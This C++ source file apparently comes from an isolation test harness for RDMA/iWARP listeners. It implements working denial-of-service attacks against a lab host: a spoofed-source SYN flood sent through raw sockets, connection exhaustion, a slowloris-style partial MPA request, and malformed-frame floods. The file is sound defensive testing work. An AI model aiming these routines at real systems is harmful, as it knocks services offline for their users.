// SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
// Attacks by a stranger that can reach the port of a listener.
#include <cerrno>
#include <deque>
#include <random>

#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <sys/socket.h>
#include <unistd.h>

#include "attach/side.h"
#include "attack.h"
#include "rdma/cm.h"

namespace isolation {
namespace {

constexpr size_t at_once = 500;
constexpr std::string_view request = "MPA ID Req Frame\x40\x01\0\0";

attach::Fd open_connection(uint16_t port)
{
	rdma::Address to(lab::b().ip4, port);
	attach::Fd fd(socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0));
	rdma::check(fd.get() < 0 ? -1 : 0, "socket");
	if (connect(fd.get(), to.get(), sizeof(sockaddr_in)) && errno != EINPROGRESS)
		throw rdma::Failure("connect", errno);
	return fd;
}

// Keeps as many connections as a stranger may have, and calls @act for each in turn. If @act
// returns false, a new connection replaces this one.
template <class Act>
Attack::Body crowd(uint16_t port, Act act)
{
	return [=](const std::function<void()> &begun) mutable {
		lab::Inside inside(lab::a());
		std::deque<std::pair<attach::Fd, size_t>> all;
		for (size_t round = 0;; round++) {
			if (round == at_once)
				begun();
			if (all.size() < at_once)
				all.push_back({open_connection(port), 0});
			auto one = std::move(all.front());
			all.pop_front();
			if (act(one.first.get(), one.second++))
				all.push_back(std::move(one));
		}
	};
}

uint16_t checksum(const void *bytes, size_t length, uint32_t sum)
{
	const auto *words = static_cast<const uint16_t *>(bytes);
	for (size_t i = 0; i < length / 2; i++)
		sum += words[i];
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return static_cast<uint16_t>(~sum);
}

struct Syn {
	iphdr ip{};
	tcphdr tcp{};
};

Syn syn(const std::string &to, uint16_t port, uint32_t seed)
{
	Syn s;
	s.ip.version = 4;
	s.ip.ihl = 5;
	s.ip.ttl = 64;
	s.ip.protocol = IPPROTO_TCP;
	s.ip.saddr = htonl(0x0a010000 | (seed & 0xffff)); // 10.1.0.0/16: unused addresses
	s.ip.daddr = inet_addr(to.c_str());
	s.tcp.source = htons(static_cast<uint16_t>(1024 + seed % 60000));
	s.tcp.dest = htons(port);
	s.tcp.seq = htonl(seed);
	s.tcp.doff = 5;
	s.tcp.syn = 1;
	s.tcp.window = htons(65535);
	const uint32_t pseudo = (s.ip.saddr & 0xffff) + (s.ip.saddr >> 16) + (s.ip.daddr & 0xffff) +
				(s.ip.daddr >> 16) + htons(IPPROTO_TCP) + htons(sizeof(s.tcp));
	s.tcp.check = checksum(&s.tcp, sizeof(s.tcp), pseudo);
	return s;
}

} // namespace

Attack::Body half_open(uint16_t port)
{
	return [=](const std::function<void()> &begun) {
		lab::Inside inside(lab::a());
		attach::Fd raw(socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW));
		rdma::check(raw.get() < 0 ? -1 : 0, "socket");
		rdma::Address to(lab::b().ip4, 0);
		begun();
		for (uint32_t i = 0;; i++) {
			const Syn s = syn(lab::b().ip4, port, i * 2654435761u);
			sendto(raw.get(), &s, sizeof(s), 0, to.get(), sizeof(sockaddr_in));
		}
	};
}

Attack::Body silent(uint16_t port)
{
	return crowd(port, [](int, size_t turn) { return turn < 3; });
}

Attack::Body slow(uint16_t port)
{
	return crowd(port, [](int fd, size_t turn) {
		// The last byte is never sent.
		if (turn + 1 >= request.size())
			return false;
		return send(fd, &request[turn], 1, MSG_NOSIGNAL | MSG_DONTWAIT) == 1 ||
		       errno == EAGAIN;
	});
}

Attack::Body malformed(uint16_t port)
{
	return crowd(port, [dice = std::minstd_rand(1)](int fd, size_t turn) mutable {
		uint32_t words[16];
		for (uint32_t &word : words)
			word = static_cast<uint32_t>(dice());
		// Some begin with a valid header.
		if (dice() % 2)
			request.copy(reinterpret_cast<char *>(words), 16);
		return !turn || send(fd, words, sizeof(words), MSG_NOSIGNAL | MSG_DONTWAIT) < 0;
	});
}

} // namespace isolation
